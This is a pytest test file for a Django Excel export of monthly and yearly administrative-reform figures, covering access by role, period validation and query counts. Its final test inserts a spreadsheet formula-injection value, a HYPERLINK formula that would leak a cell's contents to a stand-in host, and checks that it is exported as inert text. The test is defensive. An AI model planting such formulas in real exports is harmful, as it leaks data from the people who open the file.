"""Exporting a month's or the year's figures: ward-wide roles get every unit, a unit head only their own."""

import io

import openpyxl
import pytest
from django.urls import reverse

from emulation.reports import services
from emulation.tests.test_excel_support import XLSX, month
from units.models import Unit

HEADER = [
    "Mã đơn vị",
    "Đơn vị",
    "Tháng",
    "Mã chỉ tiêu",
    "Tên chỉ tiêu",
    "Tử số",
    "Mẫu số",
    "Tỷ lệ (%)",
    "Giá trị",
    "Điểm tự chấm",
    "Điểm thẩm định",
    "Chỉ tiêu phấn đấu",
    "Trạng thái",
]


@pytest.fixture
def reports(campaign, sam):
    """March and April reports of VP and KT-HT-ĐT, with a few figures."""
    opened = {}
    for code in ("VP", "KTHTDT"):
        for number in (3, 4):
            report = services.report_open(
                campaign=campaign, unit=Unit.objects.get(code=code), month=month(number), actor=sam
            )
            opened[(code, number)] = report
    services.report_save_figures(
        report=opened[("VP", 3)],
        actor=sam,
        entries={
            "1.2a": {"numerator": 45, "denominator": 50},
            "1.2b": {"numerator": 0, "denominator": 0},
            "1.5c": {"value": 120},
            "1.1": {"self_score": "8,5", "explanation": "x"},
        },
    )
    return opened


def _export(client, user, campaign, period: str | None):
    client.force_login(user)
    query = {"ky": period} if period is not None else {}
    return client.get(reverse("emulation:figures-export", kwargs={"code": campaign.code}), query)


def _rows(response) -> list[list]:
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert values[1] == HEADER
    return values[2:]


def test_month_export_has_one_row_per_unit_and_indicator_with_figures(client, sam, campaign, reports):
    response = _export(client, sam, campaign, "2026-03")
    assert 'filename="so-lieu-CCHC-2026-2026-03.xlsx"' in response["Content-Disposition"]
    rows = _rows(response)
    assert len(rows) == 2 * 15
    assert {(r[0], r[2]) for r in rows} == {("VP", "2026-03"), ("KTHTDT", "2026-03")}
    by_key = {(r[0], r[3]): r for r in rows}
    assert by_key[("VP", "1.2a")][5:8] == [45, 50, 90]
    assert by_key[("VP", "1.2a")][11:] == [100, "Đang soạn"]
    assert by_key[("VP", "1.2b")][7] == "Không có hồ sơ"  # a zero denominator is not 0% nor 100%
    assert by_key[("VP", "1.5c")][8] == 120
    assert by_key[("VP", "1.1")][9] == 8.5 and by_key[("VP", "1.1")][11] == 8
    assert by_key[("KTHTDT", "1.2a")][5:8] == [None, None, None]
    assert by_key[("VP", "1.3c")][4] == "Hồ sơ TTHC được giải quyết đúng hạn"


def test_year_export_covers_every_month_and_is_the_default(client, chris, campaign, reports):
    rows = _rows(_export(client, chris, campaign, "2026"))
    assert len(rows) == 4 * 15
    assert sorted({(r[0], r[2]) for r in rows}) == [
        ("KTHTDT", "2026-03"),
        ("KTHTDT", "2026-04"),
        ("VP", "2026-03"),
        ("VP", "2026-04"),
    ]
    assert _rows(_export(client, chris, campaign, None)) == rows


def test_unit_head_exports_only_their_own_unit(client, alice, bob, campaign, reports):
    assert {r[0] for r in _rows(_export(client, alice, campaign, "2026"))} == {"VP"}
    assert {r[0] for r in _rows(_export(client, bob, campaign, "2026-04"))} == {"KTHTDT"}


def test_an_official_heading_no_unit_gets_404(client, olga, campaign, reports):
    assert _export(client, olga, campaign, "2026").status_code == 404


@pytest.mark.parametrize(
    "period",
    # Years and months no date can hold, and full-width digits ("２０２６-０３" is not typed by the page's links).
    [
        "2026-13",
        "2025-12",
        "2027",
        "tháng 3",
        "2026-3",
        "0000-01",
        "0000",
        "0001-00",
        "9999-99",
        "２０２６-０３",
        "２０２６",
    ],
)
def test_bad_period_is_explained_in_vietnamese(client, sam, campaign, period):
    response = _export(client, sam, campaign, period)
    assert response.status_code == 400
    page = response.content.decode()
    assert "Kỳ xuất số liệu không hợp lệ" in page and "YYYY-MM" in page and "?ky=2026-03" in page


def test_export_query_count_does_not_grow_with_rows(client, sam, campaign, reports, django_assert_max_num_queries):
    for code in ("VHXH", "TTPVHCC", "TTDVTH"):
        for number in range(1, 7):
            services.report_open(campaign=campaign, unit=Unit.objects.get(code=code), month=month(number), actor=sam)
    client.force_login(sam)
    url = reverse("emulation:figures-export", kwargs={"code": campaign.code})
    with django_assert_max_num_queries(8):
        response = client.get(url, {"ky": "2026"})
    assert len(_rows(response)) == (4 + 18) * 15


def test_a_name_that_looks_like_a_formula_is_exported_as_text(client, sam, campaign, reports):
    # A13: every text of the export is a string cell (core.table_export.put), never a formula.
    typed = '=HYPERLINK("http://x?leak="&B3,"bấm")'
    Unit.objects.filter(code="VP").update(short_name=typed)
    response = _export(client, sam, campaign, "2026-03")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=3) if row[0].value == "VP"]
    assert cells and all(cell.data_type == "s" and cell.value == typed for cell in cells)
